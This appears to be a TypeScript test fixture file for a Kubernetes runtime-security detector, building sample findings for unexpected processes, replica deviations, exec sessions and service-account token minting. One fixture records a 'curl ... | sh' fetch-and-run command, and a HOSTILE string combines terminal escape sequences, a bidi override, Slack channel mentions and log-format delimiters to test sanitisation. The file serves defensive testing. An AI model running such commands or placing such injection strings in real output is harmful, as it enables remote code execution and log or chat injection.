import type { Finding } from "@outlier/contracts";

/**
 * Findings shaped as the detectors write them (packages baseline, replicas, audit-rules),
 * with the evidence the sinks read.
 */

export function unexpectedProcess(overrides: Partial<Finding> = {}): Finding {
  return {
    schema: "outlier.finding.v1",
    id: "f-unexpected-1",
    type: "process.unexpected",
    severity: "critical",
    time: "2024-05-01T10:00:00.123456789Z",
    cluster: "prod-eu",
    summary: "Unexpected process /usr/bin/curl in Deployment payments/checkout container app",
    workload: {
      kind: "Deployment",
      name: "checkout",
      namespace: "payments",
      labels: { app: "checkout", team: "payments", "app.kubernetes.io/part-of": "shop" },
      annotations: { "outlier.dev/slack-channel": "#payments-oncall" },
    },
    pod: "checkout-7d9f8-abcde",
    container: "app",
    node: "node-a",
    process: {
      binary: "/usr/bin/curl",
      args: "-s http://10.0.0.9/x?a=1|sh",
      pid: 4242,
      uid: 0,
      cwd: "/app",
      parent: { binary: "/bin/sh", args: "-c curl", pid: 4200 },
      ancestors: ["/bin/sh", "/usr/local/bin/node"],
    },
    evidence: {
      denied: false,
      singleReplica: true,
      replicas: { live: 3, runningBinary: 1 },
      baseline: { state: "locked", learningStartedAt: "2024-04-20T00:00:00Z", lockedAt: "2024-04-27T00:00:00Z", entryCount: 42, overflowCount: 0 },
    },
    dedupKey: "process.unexpected|prod-eu/payments/Deployment/checkout/app|/usr/bin/curl",
    ...overrides,
  };
}

export function replicaDeviation(overrides: Partial<Finding> = {}): Finding {
  return {
    ...unexpectedProcess(),
    id: "f-replica-1",
    type: "replica.deviation",
    severity: "high",
    summary: "Replica checkout-7d9f8-zzzzz of Deployment payments/checkout container app ran /bin/nc that no peer ran",
    pod: "checkout-7d9f8-zzzzz",
    node: "node-b",
    process: undefined,
    evidence: {
      pod: "checkout-7d9f8-zzzzz",
      reasons: ["unique-unknown-binary", "exec-rate"],
      uniqueUnknownBinaries: ["/bin/nc"],
      jaccard: { value: 0.4, median: 0.05, mad: 0.05, z: 4.7 },
      execRate: { value: 12, median: 1, mad: 0.2, z: 37.1 },
      peerCount: 4,
    },
    dedupKey: "replica.deviation|prod-eu/payments/Deployment/checkout|app|checkout-7d9f8-zzzzz",
    ...overrides,
  };
}

export function execSession(overrides: Partial<Finding> = {}): Finding {
  return {
    ...unexpectedProcess(),
    id: "f-exec-1",
    type: "exec.session",
    severity: "medium",
    summary: "alice@example.com exec into payments/checkout-7d9f8-abcde (app): sh; 3 process(es) run",
    process: undefined,
    evidence: {
      user: { username: "alice@example.com", groups: ["system:authenticated"] },
      sourceIPs: ["10.1.2.3"],
      subresource: "exec",
      command: ["sh"],
      execCount: 3,
    },
    dedupKey: "exec.session|alice@example.com|payments/checkout-7d9f8-abcde/app",
    ...overrides,
  };
}

/** A person minting a service-account token (audit rule service-account-token), with its why and what to do. */
export function serviceAccountToken(overrides: Partial<Finding> = {}): Finding {
  return {
    schema: "outlier.finding.v1",
    id: "f-sa-token-1",
    type: "audit.service-account-token",
    severity: "critical",
    time: "2024-05-01T10:05:00.000000000Z",
    cluster: "prod-eu",
    summary: "mallory@example.com: minted a token for service account kube-system/default, valid 7d, not bound to a pod or secret",
    namespace: "kube-system",
    evidence: {
      rule: { id: "service-account-token", title: "Service account token minted by a person" },
      user: { username: "mallory@example.com", groups: ["system:authenticated"] },
      details: {
        serviceAccount: "kube-system/default",
        expirationSeconds: 604800,
        why: "people do not normally mint service-account tokens; the kubelet and controllers do; critical: a kube-system account",
        action: "confirm with the person; if not expected, revoke the token and review what the account can do",
      },
    },
    dedupKey: "audit.service-account-token|mallory@example.com|serviceaccounts/token:kube-system/default",
    ...overrides,
  };
}

/**
 * The same finding with every name an attacker chooses made hostile: a terminal title
 * (OSC), clear screen, hidden text, CR, NUL, a bidi override, a newline, Slack mentions
 * and links, and CEF's `|`, `=` and `\`.
 */
export const HOSTILE = "x\u001b]0;pwned\u0007\u001b[2J\u001b[8m\r\u0000\u202e\n<!channel> <http://x|y> & a|b=c\\d";

export function hostileFinding(overrides: Partial<Finding> = {}): Finding {
  const base = execSession();
  return {
    ...base,
    summary: `${HOSTILE} exec into ${HOSTILE}`,
    workload: { kind: "Deployment", name: `checkout${HOSTILE}`, namespace: `payments${HOSTILE}`, labels: { app: HOSTILE }, annotations: {} },
    pod: `pod${HOSTILE}`,
    container: `app${HOSTILE}`,
    node: `node${HOSTILE}`,
    process: { binary: `/tmp/${HOSTILE}`, args: HOSTILE, pid: 7, uid: 0, parent: { binary: `/bin/${HOSTILE}`, args: HOSTILE, pid: 6 }, ancestors: [] },
    evidence: { ...base.evidence, user: { username: `eve${HOSTILE}`, groups: [] } },
    ...overrides,
  };
}
